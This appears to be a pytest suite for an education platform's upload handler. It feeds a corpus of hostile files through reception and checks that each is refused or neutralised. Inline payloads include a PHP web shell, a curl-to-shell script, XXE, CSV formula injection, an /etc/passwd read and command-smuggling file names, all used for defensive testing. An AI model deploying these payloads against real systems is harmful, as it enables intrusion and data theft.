"""The hostile corpus through the whole reception: each is refused with its reason or kept without
its harm; nothing is called, nothing is left behind, and it never takes long."""

import contextlib
import gzip
import io
import re
import socket
import time

import media_hostile as hostile
import media_traps as traps
import pytest
from media_samples import photo

from ecole.media.conversion import CannotConvert, convert, upright, wanted
from ecole.media.reception import receive
from ecole.media.refusals import ADVICE, RefusedFile

# Name: (how it is made from a folder of samples and the port of a trap, what becomes of it): the
# code of a refusal, or the kind under which it is kept, harmless.
CORPUS = {
    # Two formats in one.
    "gif.js": (lambda f, p: b"GIF89a/*" + bytes(8) + b"*/=1;alert(1)", "gif"),
    "gif.php": (lambda f, p: b"GIF89a<?php system('id'); ?>", "gif"),
    "bmp.js": (lambda f, p: b"BM/*" + bytes(60) + b"*/=1;alert(1)", "picture"),
    "page-of.pdf": (lambda f, p: traps.HTML + b"%PDF-1.4\n%%EOF", "web"),
    "pdf-then.html": (lambda f, p: b"%PDF-1.4\n" + traps.HTML + b"%%EOF", "damaged"),
    "photo-and.zip": (lambda f, p: traps.photo_with_a_zip(f), "image"),
    "photo-and.php": (lambda f, p: traps.photo_with_a_programme(f), "image"),
    "drawing-and.html": (lambda f, p: traps.drawing_with_a_page(), "image"),
    "iphone-and.html": (lambda f, p: traps.iphone_photo_of_a_page(f), "damaged"),
    "film-and.html": (lambda f, p: traps.film_with_a_page(f), "video"),
    "film-of.html": (lambda f, p: traps.film_of_a_page(f), "video"),
    "wav-and.html": (lambda f, p: traps.wav_of_a_page(f), "audio"),
    "mp3-and.html": (lambda f, p: traps.mp3_of_a_page(f), "audio"),
    "pdf-and.zip": (lambda f, p: traps.pdf_with_a_zip(f), "pdf"),
    "page-and.docx": (lambda f, p: traps.HTML + hostile.docx(), "web"),
    "docx-and.html": (lambda f, p: hostile.docx() + traps.HTML, "office"),
    # Pages and drawings that run.
    "html-as.pdf": (lambda f, p: traps.HTML, "web"),
    "html-as.jpg": (lambda f, p: b"\n\t " + traps.HTML, "web"),
    "html-utf16.mp4": (lambda f, p: traps.HTML.decode().encode("utf-16"), "web"),
    "script.svg": (lambda f, p: b"<svg>" + hostile.SCRIPT + b"</svg>", "svg"),
    "bom.svg": (lambda f, p: b"\xef\xbb\xbf" + hostile.SVG, "svg"),
    "utf16be.svg": (lambda f, p: b"\xfe\xff" + hostile.SVG.decode().encode("utf-16-be"), "svg"),
    "utf16-bare.svg": (lambda f, p: hostile.SVG.decode().encode("utf-16-le"), "svg"),
    "entities.svg": (
        lambda f, p: b'<!DOCTYPE svg [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>' + hostile.SVG, "svg"),
    "xxe.xml": (
        lambda f, p: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "'
        + traps.address(p) + b'">]><a>&x;</a>', "web"),
    "zipped.svgz": (lambda f, p: gzip.compress(hostile.SVG), "archive"),
    "late-script.txt": (lambda f, p: b"Bonjour " * 40 + hostile.SCRIPT, "web"),
    "archive.mht": (lambda f, p: b"MIME-Version: 1.0\n\nx", "text"),
    "shortcut.url": (lambda f, p: b"[InternetShortcut]\nURL=" + traps.address(p), "text"),
    "formula.csv": (lambda f, p: b"=cmd|' /C calc'!A0;2\n", "text"),
    "program.php": (lambda f, p: b"<?php system($_GET['c']); ?>", "web"),
    # Programmes.
    "film.mp4.exe": (lambda f, p: b"MZ" + bytes(500), "program"),
    "film.mp4": (lambda f, p: b"MZ" + bytes(500), "program"),
    "java.class": (lambda f, p: b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(50), "program"),
    "mac.app": (lambda f, p: b"\xcf\xfa\xed\xfe" + bytes(50), "program"),
    "module.wasm": (lambda f, p: b"\0asm\1\0\0\0", "program"),
    "shell.jpg": (lambda f, p: b"#!/bin/bash\ncurl " + traps.address(p) + b"|sh\n", "program"),
    "shortcut.lnk": (lambda f, p: b"L\0\0\0\1\x14\2\0" + bytes(60), "unknown"),
    "flash.swf": (lambda f, p: b"CWS\x0a" + bytes(60), "unknown"),
    "drawing.eps": (lambda f, p: b"%!PS-Adobe-3.0\n(a) run\n", "text"),
    "java.jar": (lambda f, p: hostile.zipped({"META-INF/MANIFEST.MF": b"a", "A.class": b"x"}),
                 "archive"),
    "virus.com": (lambda f, p: traps.EICAR, "text"),
    "virus.zip": (lambda f, p: hostile.zipped({"eicar.com": traps.EICAR}), "archive"),
    "virus-stored.zip": (lambda f, p: traps.with_stored_entry("eicar.com", traps.EICAR), "archive"),
    "virus-in.docx": (lambda f, p: hostile.docx(**{"word/eicar.com": traps.EICAR}), "office"),
    # Nothing, or not enough.
    "nothing.mp4": (lambda f, p: b"", "empty"),
    "one-byte.jpg": (lambda f, p: b"\0", "unknown"),
    "zeros.mov": (lambda f, p: bytes(5_000_000), "unknown"),
    "cut-10.mp4": (lambda f, p: _cut(traps.sample(f, "film.mp4"), 0.1), "damaged"),
    "cut-50.mp4": (lambda f, p: _cut(traps.sample(f, "film.mp4"), 0.5), "damaged"),
    "cut-99.mp4": (lambda f, p: _cut(traps.sample(f, "film.mp4"), 0.99), "damaged"),
    "cut-50.mov": (lambda f, p: _cut(traps.sample(f, "iphone.mov"), 0.5), "damaged"),
    "cut-90.mov": (lambda f, p: _cut(traps.sample(f, "iphone.mov"), 0.9), "damaged"),
    "cut-50.webm": (lambda f, p: _cut(traps.sample(f, "film.webm"), 0.5), "damaged"),
    "cut-50.heic": (lambda f, p: _cut(traps.sample(f, "photo.heic"), 0.5), "damaged"),
    "cut-50.jpg": (lambda f, p: _cut(traps.sample(f, "photo.jpg"), 0.5), "damaged"),
    "cut-50.pdf": (lambda f, p: _cut(traps.sample(f, "page.pdf"), 0.5), "damaged"),
    "cut-50.docx": (lambda f, p: _cut(hostile.docx(), 0.5), "damaged"),
    # A name that lies, both ways: the content decides, and gives the ending back.
    "photo.pdf": (lambda f, p: traps.sample(f, "photo.jpg"), "image"),
    "film.jpg": (lambda f, p: traps.sample(f, "film.mp4"), "video"),
    "page.mp4": (lambda f, p: traps.sample(f, "page.pdf"), "pdf"),
    "text.exe": (lambda f, p: hostile.docx(), "office"),
    "iphone.jpg": (lambda f, p: traps.sample(f, "photo.heic"), "image"),
    # Bombs.
    "black.png": (lambda f, p: traps.drawing_of_black(), "pixels"),
    "black.webp": (lambda f, p: traps.webp_of_black(), "pixels"),
    "black.jpg": (lambda f, p: traps.photo_of_black(f), "pixels"),
    "black.heic": (lambda f, p: traps.iphone_photo_of_black(f), "pixels"),
    "elsewhere.heic": (lambda f, p: traps.iphone_photo_elsewhere(f), "damaged"),
    "folded.png": (lambda f, p: traps.drawing_of_a_folded_text(), "damaged"),
    "nested.zip": (lambda f, p: traps.nested_bomb(), "archive"),
    "nested.docx": (lambda f, p: hostile.docx(**{"word/a.bin": traps.nested_bomb()}),
                    "office"),
    "overlapping.docx": (lambda f, p: traps.overlapping_bomb(), "office_bomb"),
    # Office documents.
    "remote.docx": (lambda f, p: traps.remote_template(p), "office_macro"),
    "macro.docx": (lambda f, p: hostile.docx(**{"word/vbaProject.bin": b"x"}), "office_macro"),
    "script.odt": (lambda f, p: hostile.odt(**{"Scripts/javascript/m.js": b"x"}), "office_macro"),
    # PDF.
    "endless.pdf": (lambda f, p: traps.endless_pdf(), "damaged"),
    "launch.pdf": (lambda f, p: hostile.document(hostile.launches), "pdf_program"),
    "spelt.pdf": (
        lambda f, p: traps.spelt_launch(hostile.document(hostile.launches)), "pdf_program"),
    "script.pdf": (lambda f, p: hostile.document(hostile.opens_a_script), "pdf_program"),
    "attached.pdf": (lambda f, p: hostile.document(hostile.attaches), "pdf_attachment"),
    "address.pdf": (lambda f, p: hostile.document(traps.submits), "pdf"),
    "long.pdf": (
        lambda f, p: hostile.document(lambda d: [d.add_blank_page() for _ in range(300)]),
        "pdf_pages"),
    # Lists of other files, and films that name them.
    "list.mp4": (lambda f, p: traps.list_of_files(p), "text"),
    "list.m3u8": (lambda f, p: b"\xef\xbb\xbf" + traps.list_of_files(p), "text"),
    "concat.mov": (lambda f, p: b"ffconcat version 1.0\nfile /etc/passwd\n", "text"),
    "dash.mp4": (lambda f, p: b"<MPD><BaseURL>" + traps.address(p) + b"</BaseURL></MPD>", "web"),
    "station.pls": (lambda f, p: b"[playlist]\nFile1=" + traps.address(p), "text"),
    "words.srt": (lambda f, p: b"1\n00:00:00,000 --> 00:00:02,000\n" + traps.HTML, "web"),
    "words.ass": (lambda f, p: b"[Script Info]\nTitle: a\n[Fonts]\n", "text"),
    "font.mkv": (lambda f, p: traps.film_with_a_font(f), "damaged"),
    "elsewhere.mov": (lambda f, p: traps.film_elsewhere(f, p), "video"),
    # Boxes that lie.
    "samples.mov": (lambda f, p: traps.film_of_many_samples(f), "video"),
    "ages.mov": (lambda f, p: traps.film_of_ages(f), "video"),
    "boxes.mp4": (lambda f, p: traps.boxes_in_boxes(), "av_silent"),
}
# By name, what must not be found in what is kept.
GONE = (b"<script", b"<?php", b"PK\3\4")
# Kept as they came, since they are only ever given as what they are: nosniff, in a sandbox.
AS_THEY_CAME = {"film-of.html", "wav-and.html", "mp3-and.html", "pdf-and.zip", "page-of.pdf",
                "text.exe", "virus-in.docx", "docx-and.html", "nested.docx"}
SECONDS = 45


def _cut(content: bytes, part: float) -> bytes:
    return content[: int(len(content) * part)]


@pytest.fixture(scope="session")
def samples(tmp_path_factory):
    return tmp_path_factory.mktemp("trap-samples")


@pytest.fixture(scope="session")
def trap():
    """A door that nobody may knock at."""
    with socket.create_server(("127.0.0.1", 0)) as door:
        door.setblocking(False)
        yield door


@pytest.mark.parametrize("name", CORPUS)
def test_it_is_refused_or_harmless(samples, trap, blobs, tmp_path, name):
    build, fate = CORPUS[name]
    content = build(samples, trap.getsockname()[1])
    start = time.monotonic()
    if fate in ADVICE:
        with pytest.raises(RefusedFile) as refused:
            receive(io.BytesIO(content), name, blobs)
        assert refused.value.code == fate
        assert not list(blobs.stored_keys())
    else:
        received = receive(io.BytesIO(content), name, blobs)
        assert received.kind == fate
        _check_kept(blobs, received, name)
        _convert_all(blobs, received, tmp_path)
    assert time.monotonic() - start < SECONDS
    assert not list(blobs.drafts.iterdir())
    with pytest.raises(BlockingIOError):
        trap.accept()


def _check_kept(blobs, received, name):
    with blobs.open(received.key) as file:
        kept = file.read()
    assert re.fullmatch(r"(image|audio|video)/[\w-]+|application/(pdf|vnd\.[\w.-]+)", received.mime)
    assert not received.name.endswith((".exe", ".html", ".js", ".php", ".zip"))
    if name not in AS_THEY_CAME:
        assert not any(word in kept for word in GONE)


def _convert_all(blobs, received, folder):
    """What the job would make of it: made, or refused with a code."""
    profiles = wanted(received.kind, received.mime, plays=received.plays, width=received.width,
                      height=received.height, duration_seconds=received.duration_seconds,
                      size=received.size)
    with blobs.local(received.key) as source:
        for profile in profiles:
            with contextlib.suppress(CannotConvert):
                made = (upright(source, folder) if received.mime == "image/heic"
                        else convert(source, received.kind, profile, folder))
                assert b"root:" not in made.path.read_bytes()


def test_the_corpus_is_large_enough():
    assert len(CORPUS) >= 60


NAMES = {
    "photo\u202egpj.exe": "photogpj.jpg",
    "../../etc/passwd": "passwd.jpg",
    "..\\..\\Windows\\win.ini": "win.ini.jpg",
    "a" * 300 + ".jpg": "a" * 116 + ".jpg",
    "é" * 300: "é" * 116 + ".jpg",
    "photo\0.exe": "photo.jpg",
    "photo.jpg\0.exe": "photo.jpg",
    "CON": "CON.jpg",
    "AUX.jpg": "AUX.jpg",
    "photo.php.jpg": "photo.php.jpg",
    "photo.jpg.exe": "photo.jpg",
    "\r\nSet-Cookie: a=b.jpg": "Set-Cookie: a=b.jpg",
    "<script>alert(1)</script>.jpg": "script>.jpg",
    "   ": "fichier.jpg",
    "": "fichier.jpg",
    "....": "fichier.jpg",
    "/": "fichier.jpg",
    "\u2066\u2069.jpg": "fichier.jpg",
    "$(reboot).jpg": "$(reboot).jpg",
    "-rf.jpg": "-rf.jpg",
}


@pytest.mark.parametrize("name", NAMES)
def test_the_name_is_made_harmless(tmp_path, blobs, name):
    photo(tmp_path / "a", (64, 64))
    with (tmp_path / "a").open("rb") as upload:
        received = receive(upload, name, blobs)
    assert received.name == NAMES[name]
    assert re.fullmatch(r"[0-9a-f]{64}", received.key)
